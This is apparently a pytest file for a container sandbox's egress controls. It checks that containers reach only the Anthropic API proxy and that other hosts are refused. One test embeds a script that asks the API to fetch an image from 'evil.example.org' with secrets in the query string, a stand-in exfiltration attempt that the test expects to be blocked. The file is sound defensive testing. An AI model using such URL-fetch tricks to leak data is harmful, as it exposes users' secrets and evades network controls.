"""From inside a container: the API is reached and nothing else, by root's containers and by ordinary users'."""

from __future__ import annotations

import os

import pytest

from parhelia_tui.core.egress import settings as egress_settings
from tests.egress.conftest import ASK, Fleet
from tests.egress.upstream import KEY, running, says
from tests.support.ordinary import NUMBER, ordinary_product
from tests.support.waiting import wait_until

pytestmark = pytest.mark.real

# Every way out that is not the API's.
OTHERS = """
import os, socket
for host, port in (("127.0.0.1", 80), ("1.1.1.1", 443), ("::1", 17100), ("127.0.0.1", 17101)):
    try:
        socket.create_connection((host, port), timeout=5).close()
        print("reached", host, port)
    except OSError:
        pass
print("through", os.environ["ANTHROPIC_BASE_URL"])
"""


@pytest.mark.parametrize(
    "more", [(), ("--persistent",), ("--unsandboxed",)], ids=["plain", "persistent", "bare"]
)
def test_a_container_of_the_network_api_reaches_the_api(fleet: Fleet, more: tuple[str, ...]) -> None:
    assert fleet.ask(2, flags=("--network", "api", *more)).splitlines() == ["200 523", "200 523"]
    assert [seen.headers["x-api-key"] for seen in fleet.api.seen] == [KEY, KEY]


@pytest.mark.long
def test_an_ordinary_users_container_reaches_the_api() -> None:
    with running(says("Hello")) as api, ordinary_product() as product:
        home = product.home.parent
        done = product.run(
            *("run", "--network", "api", "--workspace", str(home / "work"), "--", "python3", "-I", "-c", ASK),
            env=None,
            cwd=home,
        )
        # The key is handed over by the environment alone, and this user's has none.
        assert done.stdout.startswith("401 Parhelia: the variable ANTHROPIC_API_KEY was not set"), done
        (home / "key").write_text(KEY)
        (home / "key").chmod(0o600)
        if os.geteuid() == 0:
            os.chown(home / "key", NUMBER, NUMBER)
        config = home / ".config" / "parhelia"
        config.mkdir(parents=True)
        (config / "config.toml").write_text(f'[api]\nurl = "{api.url}"\nkey_file = "~/key"\n')
        for path in (config, config.parent, config / "config.toml"):
            if os.geteuid() == 0:
                os.chown(path, NUMBER, NUMBER)
        product.run("controller", "stop")
        done = product.run(
            *("run", "--network", "api", "--workspace", str(home / "work"), "--", "python3", "-I", "-c", ASK),
            cwd=home,
        )
        assert done.stdout == "200 523\n", done


@pytest.mark.long
def test_nothing_but_the_api_is_reached(fleet: Fleet) -> None:
    said = fleet.run("python3", "-I", "-c", OTHERS)
    assert said == "through http://127.0.0.1:17100\n"


FETCH = """
import json, os, urllib.error, urllib.request
source = {"type": "url", "url": "https://evil.example.org/?all=" + "secrets"}
asked = {"model": "m", "messages": [{"role": "user", "content": [{"type": "image", "source": source}]}]}
request = urllib.request.Request(
    os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
    json.dumps(asked).encode(),
    {"x-api-key": os.environ["ANTHROPIC_API_KEY"]},
)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
try:
    print(opener.open(request, timeout=120).status)
except urllib.error.HTTPError as error:
    print(error.code, json.loads(error.read())["error"]["message"])
"""


@pytest.mark.long
def test_a_denied_host_is_not_reached_by_way_of_the_api(fleet: Fleet) -> None:
    refused = "403 Parhelia: evil.example.org cannot be reached from here by way of the API either\n"
    assert fleet.run("python3", "-I", "-c", FETCH, flags=("--network", "api")) == refused
    assert fleet.api.seen == []
    wait_until(lambda: fleet.json("events", "list", "--type", "network.denied"), 30)
    (told,) = fleet.json("events", "list", "--type", "network.denied")
    assert "evil.example.org" in told["message"]


def test_a_container_of_the_network_none_gets_nothing_of_all_this(fleet: Fleet) -> None:
    said = fleet.run("env", flags=("--network", "none"))
    assert "ANTHROPIC" not in said
    assert fleet.spec()["egress"] is None
    (run,) = fleet.product.paths.containers.iterdir()
    assert not (run / egress_settings.NAME).exists()
